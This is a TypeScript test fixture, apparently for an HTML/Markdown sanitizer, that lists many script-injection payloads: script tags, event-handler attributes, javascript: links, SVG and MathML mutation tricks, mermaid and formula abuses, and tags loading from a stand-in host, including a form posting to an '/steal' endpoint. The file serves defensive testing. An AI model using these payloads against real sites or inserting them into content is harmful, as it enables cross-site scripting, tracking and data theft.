/** What each would load, if it could. */
export const ELSEWHERE = 'https://elsewhere.invalid'

const run = 'globalThis.wasRun=1'
const pixel = `${ELSEWHERE}/pixel.png`

/** HTML that runs or loads something where nobody has cleaned it, by class. */
export const hostileHtml: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  scriptFromElsewhere: `<script src="${ELSEWHERE}/x.js"></script><script type="module" src="${ELSEWHERE}/m.js"></script>`,
  scriptInData: `<script src="data:text/javascript,${run}"></script>`,
  imageHandler: `<img src="x" onerror="${run}"><img src=x onerror=${run}//`,
  imageFromElsewhere: `<img src="${pixel}"><img srcset="${pixel} 2x"><picture><source srcset="${pixel}"><img alt=""></picture>`,
  svg: `<svg onload="${run}"><script>${run}</script><image href="${pixel}"/><use href="${ELSEWHERE}/x.svg#a"/></svg>`,
  svgAnimation: `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/><a><set attributeName="href" to="javascript:${run}"/><text>go</text></a></svg>`,
  svgForeign: `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  math: `<math><maction actiontype="statusline" xlink:href="javascript:${run}">go</maction><annotation-xml encoding="text/html"><img src="x" onerror="${run}"></annotation-xml></math>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  embed: `<embed src="${ELSEWHERE}/x.pdf"><object data="${ELSEWHERE}/x.swf"></object><applet code="x"></applet>`,
  pdf: `<embed type="application/pdf" src="data:application/pdf,x"><a href="${ELSEWHERE}/x.pdf#javascript:${run}" download>paper</a>`,
  link: `<link rel="stylesheet" href="${ELSEWHERE}/x.css"><link rel="prefetch" href="${pixel}"><link rel="preconnect" href="${ELSEWHERE}"><link rel="manifest" href="${ELSEWHERE}/m.json">`,
  form: `<form action="${ELSEWHERE}/steal" method="post"><input name="a" autofocus onfocus="${run}"><button formaction="javascript:${run}">send</button></form>`,
  frame: `<iframe src="${ELSEWHERE}/"></iframe><iframe src="javascript:parent.${run}"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  style: `<style>@import "${ELSEWHERE}/x.css"; body { background: url(${pixel}) }</style><p style="background: url(${pixel})">styled</p>`,
  base: `<base href="${ELSEWHERE}/">`,
  media: `<video src="${ELSEWHERE}/x.mp4" poster="${pixel}" autoplay onerror="${run}"></video><audio src="${ELSEWHERE}/x.mp3" autoplay></audio><track src="${ELSEWHERE}/x.vtt">`,
  handlers: `<details open ontoggle="${run}"><summary>more</summary></details><marquee onstart="${run}">m</marquee><body onload="${run}"><p onpointerrawupdate="${run}" onanimationstart="${run}">p</p>`,
  custom: `<x-a onclick="${run}">x</x-a><template><script>${run}</script></template><slot onslotchange="${run}"></slot>`,
  mutation: `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></style></svg><form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  mutationInComment: `<!--><img src=x onerror=${run}>--><![CDATA[><img src=x onerror=${run}>]]>`,
  unfinished: `<img src=x onerror="${run}"`,
  encoded: `&lt;script&gt;${run}&lt;/script&gt;<img src="x" onerror="&#103;lobalThis.wasRun=1">`,
}

/** The same by the ways that Markdown and what is built on it offer. */
const hostileMarkdown: Readonly<Record<string, string>> = {
  links: `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](java\tscript:${run}) [d](&#106;avascript:${run}) [e](data:text/html,<script>${run}</script>) [f](vbscript:msgbox) [g](file:///etc/passwd) [h](ms-msdt:/id) [i](\\\\host\\share)`,
  references: `[a][1] <javascript:${run}> ![p][2]\n\n[1]: javascript:${run} "title\\" onmouseover=${run}"\n[2]: ${pixel}`,
  pictures: `![a](${pixel}) ![b](javascript:${run}) ![c](data:image/svg+xml,<svg onload=${run}>) ![d](//elsewhere.invalid/p.png)`,
  inTable: `| <img src=x onerror=${run}> | [a](javascript:${run}) |\n|---|---|\n| <script>${run}</script> | \`<svg onload=${run}>\` |`,
  inFootnote: `word[^1]\n\n[^1]: <img src=x onerror=${run}> [a](javascript:${run})`,
  inHeading: `# <img src=x onerror=${run}>\n\n- [ ] <script>${run}</script>\n\n> <iframe src="${ELSEWHERE}"></iframe>`,
  mermaid: `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:${run}" "t"; B["<img src=x onerror=${run}>"]\n%%{init: {"securityLevel": "loose"}}%%\n\`\`\``,
  formula: `$\\href{javascript:${run}}{x}$ $\\url{javascript:${run}}$ $\\includegraphics{${pixel}}$ $\\htmlData{a=b}{x}$ $\\htmlClass{" onclick=${run}}{x}$ $$\\def\\a{\\a\\a}\\a$$`,
  code: `\`\`\`"><img src=x onerror=${run}>\n<script>${run}</script>\n\`\`\`\n\n\`\`\`html\n<img src=x onerror=${run}>\n\`\`\`\n\n\`\`\`svg\n<svg onload=${run}>\n\`\`\``,
  address: `http://user:pass@elsewhere.invalid/ https://xn--80ak6aa92e.invalid/ www.elsewhere.invalid/?a=<script>${run}</script>`,
}

/** All of them, as texts of messages. */
export const scriptInjections: Readonly<Record<string, string>> = { ...hostileHtml, ...hostileMarkdown }
